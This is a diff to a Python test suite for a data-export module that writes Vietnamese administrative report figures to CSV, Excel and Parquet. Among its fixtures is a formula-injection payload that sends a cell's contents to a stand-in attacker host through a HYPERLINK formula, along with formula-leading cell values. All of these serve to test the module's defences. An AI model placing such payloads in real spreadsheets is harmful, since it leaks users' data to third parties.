@@ -6,8 +6,10 @@ import csv
 import io
 import json
 import re
+import subprocess
 import zipfile
 from datetime import UTC, date, datetime
+from pathlib import Path
 
 import openpyxl
 import polars as pl
@@ -16,7 +18,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from python_calamine import CalamineWorkbook
 
-from etl.export import FORMATS, XLSX_MAX_TEXT, About, harmless, write
+from etl.export import FORMATS, XLSX_MAX_TEXT, About, Column, Sheet, harmless, write, write_workbook
 
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
@@ -196,9 +198,141 @@ def test_a_text_too_long_for_a_cell_ends_visibly(letter: str) -> None:
 
 def test_csv_for_excel_opens_by_a_double_click() -> None:
     data = write(pl.DataFrame({"a": ["đ;đ"], "b": [1.5]}), "csv", for_excel=True)
-    assert data == b'\xef\xbb\xbfa;b\n"\xc4\x91;\xc4\x91";1.5\n'
+    assert data == b'\xef\xbb\xbfa;b\n"\xc4\x91;\xc4\x91";1,5\n'
 
 
 def test_another_format_is_refused() -> None:
     with pytest.raises(ValueError, match="docx"):
         write(pl.DataFrame(), "docx")
+
+
+# ---------------------------------------------------------------- a workbook for people
+
+ABOUT = About(
+    "Chỉ tiêu của xã, phường",
+    (("Tỉnh", "Thanh Hóa"), ("Quý", "Quý II/2026")),
+    "02/10/2026",
+    "Báo cáo của các đơn vị",
+    "v00000007",
+    "http://127.0.0.1:8501/khai_thac?tinh=38",
+)
+FIGURES = pl.DataFrame(
+    {
+        "unit": ["Xã Ẩm Thực", "=1+1", "+84", "@x"],
+        "n": [1038.0, 3.0, None, 0.0],
+        "value": [1234.5678, 3.7037, None, 0.0],
+        "decimals": [2, 1, 1, 0],
+        "status": ["● Đạt", "■ Chậm", "▨ Chưa báo cáo", "<r>&</r>"],
+        "due": [date(2026, 3, 16), None, None, date(2026, 6, 16)],
+        "year": [2026, 2026, 2025, 2025],
+    }
+)
+FILLS = {"● Đạt": ("#12436D", "#FFFFFF"), "■ Chậm": ("#A31D2A", "#FFFFFF")}
+COLUMNS = {
+    "unit": Column("Đơn vị"),
+    "n": Column("Số thực hiện", decimals=0),
+    "value": Column("Giá trị", "%", "decimals"),
+    "status": Column("Trạng thái", fills=FILLS),
+    "due": Column("Thời hạn"),
+    "year": Column("Năm"),
+}
+
+
+def workbook(*sheets: Sheet) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(write_workbook(sheets, ABOUT)))
+
+
+def test_a_workbook_holds_the_values_of_its_frame_under_headings_with_units() -> None:
+    sheet = workbook(Sheet("Số liệu", FIGURES, COLUMNS)).worksheets[0]
+    rows = list(sheet.iter_rows(min_row=5))
+    assert [cell.value for cell in rows[0]] == [
+        "Đơn vị",
+        "Số thực hiện",
+        "Giá trị (%)",
+        "Trạng thái",
+        "Thời hạn",
+        "Năm",
+    ]
+    shown = FIGURES.select(list(COLUMNS)).rows()
+    read = [
+        tuple(cell.value.date() if isinstance(cell.value, datetime) else cell.value for cell in row) for row in rows[1:]
+    ]
+    assert read == shown
+    assert [row[2].number_format for row in rows[1:] if row[2].value is not None] == ["#,##0.00", "#,##0.0", "#,##0"]
+    assert [row[1].number_format for row in rows[1:] if row[1].value is not None] == ["#,##0"] * 3
+    assert {row[5].number_format for row in rows[1:]} == {"General"}
+    assert {row[0].data_type for row in rows[1:]} == {"s"}
+    assert rows[1][4].number_format == "dd/mm/yyyy"
+
+
+def test_a_workbook_says_what_it_is_and_prints_on_a4_with_its_header_on_every_page() -> None:
+    book = workbook(Sheet("Số liệu", FIGURES, COLUMNS))
+    sheet = book.worksheets[0]
+    assert [sheet.cell(row, 1).value for row in range(1, 5)] == [
+        "Chỉ tiêu của xã, phường",
+        "Tỉnh: Thanh Hóa · Quý: Quý II/2026",
+        "Nguồn: Báo cáo của các đơn vị · Số liệu tính đến ngày 02/10/2026 · phiên bản v00000007",
+        "http://127.0.0.1:8501/khai_thac?tinh=38",
+    ]
+    assert sheet.freeze_panes == "A6"
+    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert sheet.page_setup.fitToHeight == 0
+    assert sheet.print_title_rows == "$5:$5"
+    assert sheet.auto_filter.ref == "A5:F9"
+
+
+def test_a_status_has_its_colours() -> None:
+    rows = list(workbook(Sheet("Số liệu", FIGURES, COLUMNS)).worksheets[0].iter_rows(min_row=6))
+    painted = {row[3].value: (row[3].fill.fgColor.rgb, row[3].font.color.rgb) for row in rows if row[3].fill.fill_type}
+    assert painted == {"● Đạt": ("FF12436D", "FFFFFFFF"), "■ Chậm": ("FFA31D2A", "FFFFFFFF")}
+
+
+def test_sheets_of_one_workbook_bear_names_that_excel_takes() -> None:
+    wished = ["Chỉ tiêu: [VB01]/x", "chỉ tiêu   vb01  x", "History", "", "a" * 40, "A" * 40, "'x'"]
+    names = workbook(*(Sheet(name, FIGURES) for name in wished)).sheetnames
+    assert len({name.casefold() for name in names}) == len(wished)
+    assert [name for name in names if len(name) > 31 or re.search(r"[\[\]:*?/\\]|^'|'$", name)] == []
+    assert "history" not in {name.casefold() for name in names}
+
+
+def test_progress_is_told_up_to_the_last_row() -> None:
+    told: list[tuple[int, int]] = []
+    frame = pl.DataFrame({"a": range(5_000)})
+    write_workbook([Sheet("a", frame), Sheet("b", frame)], ABOUT, lambda done, of: told.append((done, of)))
+    assert told == [(2_000, 10_000), (4_000, 10_000), (7_000, 10_000), (9_000, 10_000), (10_000, 10_000)]
+
+
+def test_an_empty_workbook_is_a_workbook() -> None:
+    assert workbook(Sheet("Trống", FIGURES.clear(), COLUMNS)).worksheets[0].max_row == 5
+    assert workbook(Sheet("Trống", pl.DataFrame())).worksheets[0].max_row == 4
+
+
+def test_csv_for_excel_writes_numbers_and_days_as_people_here_do_and_ends_in_its_citation() -> None:
+    frame = FIGURES.select("unit", "value", "due").with_columns(value_to=pl.Series([None, 4.5, None, None]))
+    rows = csv_rows(write(frame, "csv", ABOUT, for_excel=True), ";")
+    assert rows[:3] == [
+        ["unit", "value", "due"],
+        ["Xã Ẩm Thực", "1234,5678", "16/03/2026"],
+        ["'=1+1", "3,7037..4,5", ""],
+    ]
+    assert rows[-2:] == [[], [ABOUT.citation]]
+
+
+def test_parquet_knows_its_citation() -> None:
+    data = write(FIGURES, "parquet", ABOUT)
+    assert pl.read_parquet(io.BytesIO(data)).equals(FIGURES)
+    assert pl.read_parquet_metadata(io.BytesIO(data))["citation"] == ABOUT.citation
+
+
+def test_libreoffice_prints_a_workbook_with_its_header_on_every_page(tmp_path: Path) -> None:
+    frame = pl.concat([FIGURES] * 40)
+    source = tmp_path / "xuat.xlsx"
+    source.write_bytes(write_workbook([Sheet("Số liệu", frame, COLUMNS), Sheet("Nguồn", FIGURES)], ABOUT))
+    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "pdf"]
+    subprocess.run([*command, "--outdir", str(tmp_path), str(source)], check=True, capture_output=True, timeout=120)
+    pages = subprocess.run(["pdftotext", "-layout", str(tmp_path / "xuat.pdf"), "-"], check=True, capture_output=True)
+    printed = pages.stdout.decode().split("\f")[:-1]
+    assert len(printed) >= 4
+    assert [page for page in printed[:-1] if "Giá trị (%)" not in page] == []
+    assert "Err:" not in pages.stdout.decode()
